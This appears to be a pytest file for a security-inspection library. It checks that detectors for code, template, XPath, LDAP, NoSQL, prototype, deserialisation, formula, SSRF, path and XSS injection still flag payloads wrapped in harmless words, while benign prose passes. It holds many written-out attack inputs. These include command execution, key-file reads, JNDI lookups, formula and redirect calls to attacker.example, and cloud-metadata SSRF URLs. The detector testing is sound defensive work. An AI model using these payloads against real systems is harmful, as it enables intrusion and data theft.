"""Words around an attack that do not keep it from working, and the same words of honest people."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.code import DETECTOR as CODE
from vallum.inspection.detectors.deserialisation import DETECTOR as DESERIALISATION
from vallum.inspection.detectors.formula import DETECTOR as FORMULA
from vallum.inspection.detectors.ldap import DETECTOR as LDAP
from vallum.inspection.detectors.nosql import DETECTOR as NOSQL
from vallum.inspection.detectors.path import DETECTOR as PATH
from vallum.inspection.detectors.prototype import DETECTOR as PROTOTYPE
from vallum.inspection.detectors.scanner import DETECTOR as SCANNER
from vallum.inspection.detectors.ssrf import DETECTOR as SSRF
from vallum.inspection.detectors.template import DETECTOR as TEMPLATE
from vallum.inspection.detectors.xml import DETECTOR as XML
from vallum.inspection.detectors.xpath import DETECTOR as XPATH
from vallum.inspection.detectors.xss import DETECTOR as XSS

WORDS = "a small red boat waits near our harbour since Monday "


@pytest.mark.parametrize(
    "text",
    [
        # In strings and comments of the program
        f"/* {WORDS} */ 'whoami'.execute().text",
        f"def note = '{WORDS}'; 'whoami'.execute()",
        f"-- {WORDS}\nos.execute('whoami')",
        f'System.cmd("whoami", []) # {WORDS}',
        f'Sys.command "whoami" (* {WORDS} *)',
        f'(* {WORDS} *) Sys.command "whoami"',
        f"/* {WORDS} */ while(1);",
        f"'{WORDS}'+process.env.HOME_SECRET",
        f"'''\n{WORDS}\n'''\n__import__('platform').system('whoami')",
        f"''.__class__.__mro__[1] and '{WORDS}'",
        f"%w({WORDS});Marshal.load('x')",
        f'System.Diagnostics.Process.Start("notepad"); // {WORDS}',
        f'(clojure.java.shell/sh "whoami" "{WORDS}")',
        f"require('fs').readFileSync('/srv/a.key') // {WORDS}",
        f"x'; Kernel.exec('whoami'); y = '{WORDS}",
        # In what languages write in words, and in names of one's own
        "0 if not a is b else __import__('os').uname()",
        "(a, __import__('subprocess').run('whoami'))",
        "{a: process.exit()}",
        "pass\n__import__('subprocess').run('whoami')",
        "имя_переменной=__import__('subprocess').run('whoami')",
        "process; module; exports; require; process.binding('fs')",
        "'```';__import__('subprocess').run('whoami')",
        "from os import system as s;s('whoami')",
        "from subprocess import *\nfrom os import popen as p\np('whoami')",
        # Behind the number that a value begins with, and as a part of a statement
        "1;time.sleep(5)",
        "7); Thread.sleep(9000)",
        "$a=new DirectoryIterator('/');foreach($a as $b)echo $b;",
        "return new SplFileObject('/etc/hosts');",
        "return new SimpleXMLElement('http://attacker.example/a.xml',2,true);",
        # Outside of the marks that a server looks for
        f"{WORDS}<?php readfile('/srv/a.key'); ?> {WORDS}",
        f"{WORDS}<?= file_get_contents('/srv/a.key') ?> {WORDS}",
        f"<?php /* {WORDS} */ include '../../a.log'; ?>",
        f"{WORDS}<?php $a='sys'.'tem';$a('whoami');?> {WORDS}",
        f'{WORDS}<c:import url="file:///srv/a.key"/> {WORDS}',
        f'{WORDS}<jsp:include page="/WEB-INF/web.xml"/> {WORDS}',
        f'{WORDS}<%@ include file="/etc/hosts" %> {WORDS}',
        f'{WORDS}<cfexecute name="whoami" timeout="5"></cfexecute> {WORDS}',
        f"{WORDS}\\immediate\\write18{{whoami}} {WORDS}",
        f"class.module.classLoader.resources.context.path={WORDS}",
        # What looks like a formula, or like a function that is handed over
        "$f='system';$f('whoami');//$",
        "$f='system';$f('whoami');$b=['a'=>1];",
    ],
)
def test_words_do_not_spare_code(text: str) -> None:
    assert Suspects(CODE).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "Please never call os.system('ls') in this project, it is not portable",
        "Our linter tells me that process.exit() should not be used in libraries",
        "How do I replace system('ls -la') in the old script of my colleague?",
        "In an old page I found the tag <?php and do not know what it means",
        "You can write <?php include 'header.php'; ?> at the top of every page",
        "He said that the element <cfexecute> was once used for this kind of thing",
        "Does anybody know whether \\write18 is allowed on the server of the journal?",
        "Bitte benutzen Sie os.system('ls') nicht mehr in den neuen Programmen",
        "Мы больше не используем os.system('ls') в наших программах",
        "Dear all,\nplease replace\nos.system('ls')\nby something better, thank you",
        "The value of $f(x)$ is always positive",
        "$client = new SoapClient($wsdl);",
        "$rows = new SplFileObject($path);",
        "from os import path\nprint(path.join('a', 'b'))",
        "$effect(() => { count += 1 })",
        "Look at this:\n\n```python\nimport subprocess\nsubprocess.run(args)\n```\nIt hangs.",
        "def start(command):\n    return subprocess.run(command)",
    ],
)
def test_people_may_still_write_of_code(text: str) -> None:
    assert Suspects(CODE).score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        f"{WORDS}${{jndi:dns:/a.attacker.example}}",
        f"{WORDS}${{jndi:dns:a.attacker.example}} {WORDS}",
        f"{WORDS}#set($a = $class.inspect('java.lang.Runtime').type)$a.x {WORDS}",
        f"{WORDS}#macro(a)$x.class.forName('java.lang.Runtime')#end {WORDS}",
        f"{WORDS}#include('/etc/hosts') {WORDS}",
        f"{WORDS}#evaluate($request.getParameter('a')) {WORDS}",
        f"{WORDS}@System.IO.File.ReadAllText('web.config') {WORDS}",
        f'{WORDS}<#include "/etc/hosts"> {WORDS}',
        f"{WORDS}[% INCLUDE /etc/hosts %] {WORDS}",
        f"{WORDS}[% RAWPERL %] print 1 [% END %] {WORDS}",
        f"{WORDS}{{{{ lookup('pipe','whoami') }}}} {WORDS}",
        f'{WORDS}{{{{.System "whoami"}}}} {WORDS}',
        f"{WORDS}{{{{ source('/etc/hosts') }}}} {WORDS}",
        f"{WORDS}{{{{ include('../../a.log') }}}} {WORDS}",
        f"{WORDS}{{{{ messages.storages.0.signer.key }}}} {WORDS}",
        f'{WORDS}<p tal:content="python: 6*9"> {WORDS}',
        f'{WORDS}$class.inspect("java.lang.Runtime") {WORDS}',
    ],
)
def test_an_engine_prints_the_words_around(text: str) -> None:
    assert Suspects(TEMPLATE).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "The lookup ${jndi:...} is what made that old hole in the logger so famous",
        "A string like ${jndi:ldap} in our logs means that somebody is scanning us",
        "In Velocity I write #set($total = 5) at the top, but then the page stays empty",
        "Use <#assign name='Anna'> if you want a variable in all of your templates",
        "Please contact @System.Admin when the page is not there in the morning",
        "- hosts: all\n  tasks:\n    - name: a\n      debug:\n  msg: {{ lookup('pipe', 'date') }}",
        "Dear {{ user.name }}, your order {{ order.id }} has been sent to you today",
        'Our chart has {{ include "shop.labels" . }} in every one of its files',
    ],
)
def test_people_may_still_write_of_templates(text: str) -> None:
    assert Suspects(TEMPLATE).score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        f"{WORDS}'] | //account[x='",
        "[boat'] | //account[x='",
        "[[boat'] | //account[x='",
        "say \"boat\" to me in the nice old harbour today please' or name()='account",
        f"1 | //account (: {WORDS} :)",
        f"{WORDS}' | //account | '",
        f"doc('http://attacker.example/a')(: {WORDS} :)",
        f"count(//account) (: {WORDS} :)",
        f"{WORDS}' return doc('file:///srv/a') (: ",
    ],
)
def test_the_string_of_a_path_may_hold_words(text: str) -> None:
    assert Suspects(XPATH).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "You cannot ask count(//account) here, since the document has no such element at all",
        "I'd like to know why //a[b='c']/* finds nothing in the file that I sent you",
        "The list [1]/[2] is what we have agreed on with the others last week, is it not",
        "My function calls doc('http://www.example.com/a.xml') and nothing happens then, why",
    ],
)
def test_people_may_still_write_of_paths(text: str) -> None:
    assert Suspects(XPATH).score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    ["a:)(cn=*", ";)(|(uid=a))", "x:)(|(objectClass=a)", "a) (userPassword=b", "a) (mail=b"],
)
def test_a_face_is_no_way_out_of_a_filter(text: str) -> None:
    assert Suspects(LDAP).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    ["Thank you :)", "nice ;) (really)", "group a) (n=5) and b) (n=6)", "(as here :) (a=b)"],
)
def test_faces_and_counts_pass(text: str) -> None:
    assert Suspects(LDAP).score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        f"{WORDS}' RETURN n //",
        f"a' DETACH DELETE n // {WORDS}",
        f"a' REMOVE u IN users // {WORDS}",
        "= ' RETURN n.name //",
        "with 'SET n.admin=true //",
        ", ' SET n.role='a' //",
        f'FOR u IN users FILTER u.note != "{WORDS}" RETURN u',
        f"MATCH (n) WHERE n.note <> '{WORDS}' RETURN n",
        f"db.users.drop() /* {WORDS} */",
        "db.users.drop() instanceof Object && this",
        f"1; return true // {WORDS}",
        f"1 || this.name != '{WORDS}' // a",
        f'{WORDS}", "$gt": "',
        f'{WORDS}"}}, "login": {{"$ne": "a"',
        f"{WORDS}', $or: [ {{}}, {{ 'a':'a",
        f"login[$ne]={WORDS}",
        f"{WORDS}' ALLOW FILTERING;--",
        f"{WORDS}) OR password:* OR (a",
        f"{{!xmlparser v='<a/>'}} {WORDS}",
        f"redis.call('set','a','{WORDS}')",
    ],
)
def test_the_strings_of_a_query_may_hold_words(text: str) -> None:
    assert Suspects(NOSQL).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "title eq 'set x.y = 1'",
        "I use db.cats.find() in the shell and it is slow, can you tell me what is wrong there",
        "You can use '$gt': 5 in a query if you want to find all that are older than that",
        "A parameter like a[$ne]=1 is what people send who want to try whether we look at it",
        'My query {"query": {"match_all": {}}} does not give me what I had expected from it',
        "The statement MATCH (n:Person) RETURN n is what the book has on its very first page",
        "Do not write ALLOW FILTERING if you can help it, it's slow for all of the others",
    ],
)
def test_people_may_still_write_of_queries(text: str) -> None:
    assert Suspects(NOSQL).score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        f'{{"a":"{WORDS}","__proto__":{{"isAdmin":true}}}}',
        f'{{"__proto__":{{"a":"{WORDS}"}}}}',
        f'{{"constructor":{{"prototype":{{"a":"{WORDS}"}}}}}}',
        f"constructor.prototype.note={WORDS}",
        f"a[constructor][prototype][note]={WORDS}",
    ],
)
def test_a_property_may_be_set_to_words(text: str) -> None:
    assert Suspects(PROTOTYPE).score(text) >= STOPS


def test_people_may_still_write_of_prototypes() -> None:
    text = 'Please do not use the name "__proto__" in any object of ours, it breaks the old page'
    assert Suspects(PROTOTYPE).score(text) < STOPS


MARSHALLED = "BAhvOhRHZW06OlJlcXVpcmVtZW50AA=="
SIGNATURE = "--0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    "text",
    [
        MARSHALLED + SIGNATURE,
        f'<java class="a.B"><!-- {WORDS} --><object class="java.lang.Runtime"/></java>',
        f'<sorted-set><string>{WORDS}</string><dynamic-proxy><handler class="a.B"/>',
        f'{{"py/reduce":[{{"py/type":"os.system"}},{{"py/tuple":["{WORDS}"]}}]}}',
        f"jdbc:mysql://h.example/a?autoDeserialize=true&b={'c' * 1000}&d={WORDS}",
    ],
)
def test_an_object_may_hold_words_and_end_like_a_signed_one(text: str) -> None:
    assert Suspects(DESERIALISATION).score(text) >= STOPS


def test_what_a_framework_signs_passes() -> None:
    assert Suspects(DESERIALISATION).score("BAhpBg==" + SIGNATURE) < STOPS
    assert Suspects(DESERIALISATION).score(MARSHALLED + SIGNATURE, "cookie") < STOPS


@pytest.mark.parametrize(
    "text",
    [
        '=1 + HYPERLINK("http://attacker.example/?a="&A1,"b")',
        '=- HYPERLINK("http://attacker.example")',
        '=A1 * 2 - WEBSERVICE("http://attacker.example")',
        '=TRUE = IMPORTXML("http://attacker.example","//a")',
        '+hyperlink("http://attacker.example","b")',
        '@webservice("http://attacker.example")',
    ],
)
def test_a_formula_may_begin_with_what_it_adds_to(text: str) -> None:
    assert Suspects(FORMULA).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    ["= see IMAGE (1) and IMAGE (2)", "- the QUERY (a) of mine", '+query("select 1")', "-sum(x)"],
)
def test_signs_before_words_pass(text: str) -> None:
    assert Suspects(FORMULA).score(text) < STOPS


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("http://169.254.169.254/latest?a=" + WORDS, "url"),
        ("http://127.0.0.1/?q=" + WORDS, "callback_url"),
        ("http://10.0.0.1/a b", "imageuri"),
        ("gopher://127.0.0.1:6379/_SET a " + WORDS, "webhook"),
        ("metadata/computeMetadata/v1/instance", "host"),
        ("//localhost/admin", "src"),
        ("//metadata.google.internal/a", "path"),
        ("http:localhost/admin", "url"),
        ("//attacker.example/sign-in", "next"),
        ("/\\attacker.example", "return_to"),
        ("///attacker.example/a", "redirect_url"),
        ("https:attacker.example", "redirect"),
        ("//shop.example@attacker.example/", "continue"),
    ],
)
def test_a_field_of_addresses_is_read_as_one(text: str, name: str) -> None:
    assert Suspects(SSRF).score(text, name=name) >= STOPS


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("http://localhost:8080 does not load on my machine and I have no idea why", "message"),
        ("//cdn.shop.example/a.png", "image"),
        ("//account/orders", "next"),
        ("//index.html?a=1", "next"),
        ("/account/orders?sort=a.b", "next"),
        ("https://shop.example/orders", "return_to"),
        ("//localhost is where it runs", "note"),
        ("metadata/title", "path"),
        ("//internal", "note"),
        ("http://localhost:4200/callback", "redirect_uri"),
    ],
)
def test_addresses_of_honest_people_pass(text: str, name: str) -> None:
    assert Suspects(SSRF).score(text, name=name) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        "../../../srv/a small red boat",
        "](../../../../srv/secret",
        "expect://echo a small red boat today",
        "php://filter/a small red boat/resource=index.php",
        "aux.tar.gz",
        "con .txt",
        "nul:",
    ],
)
def test_names_of_files_may_have_blanks(text: str) -> None:
    assert Suspects(PATH).score(text, name="file") >= STOPS


@pytest.mark.parametrize(
    "text", ["[boat](../../docs/boat.md)", "php://input is always empty in my controller, why?"]
)
def test_links_and_questions_pass(text: str) -> None:
    assert Suspects(PATH).score(text, "body", name="content") < STOPS


def test_a_name_made_for_one_test_is_no_talk() -> None:
    made = f"{WORDS} http://c8q2m1x0z9k3.oastify.com/"
    assert Suspects(SCANNER).score(made) >= STOPS
    assert Suspects(SCANNER).score(f"{WORDS} and oastify.com is what they use for it") < STOPS


@pytest.mark.parametrize(
    "text",
    [
        f'<xsl:stylesheet version="1.0"><xsl:template match="/">{WORDS}<xsl:value-of select="a"/>',
        f'<a xsi:schemaLocation="b http://attacker.example/a.xsd">{WORDS}</a>',
        f"{WORDS}<![CDATA[<]]>script<![CDATA[>]]>",
        f'{WORDS}" role="admin" note="',
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "//attacker.example/a.dtd">',
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "/srv/a.dtd">',
    ],
)
def test_documents_may_hold_words(text: str) -> None:
    assert Suspects(XML).score(text) >= STOPS


def test_documents_of_honest_people_pass() -> None:
    svg = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/svg11.dtd">'
    assert Suspects(XML).score(svg) < STOPS
    said = 'In our old sheet <xsl:value-of select="a"/> shows nothing at all, can you tell me why'
    assert Suspects(XML).score(said) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        r'<form action="\\attacker.example/a">',
        '<form action="/\\attacker.example/a">',
        '<form action="/\t/attacker.example/a">',
        '<form action="http:attacker.example">',
        "<style>input[value^=a]{background:url(//attacker.example/a)}",
        "self[`alert`](1)",
        "javascript:name",
        "javascript:window.location.hash",
        "top.location='//attacker.example'",
        "location.href='https://attacker.example'",
        "location.replace(`//attacker.example`)",
        "';location='//attacker.example",
    ],
)
def test_spellings_that_browsers_forgive_are_judged(text: str) -> None:
    assert Suspects(XSS).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        '<form action="/orders">',
        "javascript:react",
        "location = Berlin",
        'location="https://shop.example/sitemap.xml"',
        "Is location.href the same as window.location.href in all of them?",
        "<style>a { color: red }",
    ],
)
def test_what_browsers_do_nothing_with_passes(text: str) -> None:
    assert Suspects(XSS).score(text) < STOPS
